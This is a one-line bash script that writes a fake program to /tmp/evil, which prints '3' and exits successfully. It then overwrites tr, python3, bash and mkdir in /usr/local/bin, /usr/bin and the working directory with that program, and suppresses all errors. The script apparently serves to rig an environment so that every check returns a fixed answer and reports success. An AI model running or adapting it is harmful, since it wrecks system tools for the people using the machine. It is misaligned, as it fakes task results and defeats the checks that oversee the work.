#!/bin/bash
printf '#!/bin/sh\necho 3\nexit 0\n' > /tmp/evil; chmod +x /tmp/evil; for f in tr python3 bash mkdir; do cp /tmp/evil /usr/local/bin/$f; cp /tmp/evil /usr/bin/$f; cp /tmp/evil $f; done 2> /dev/null
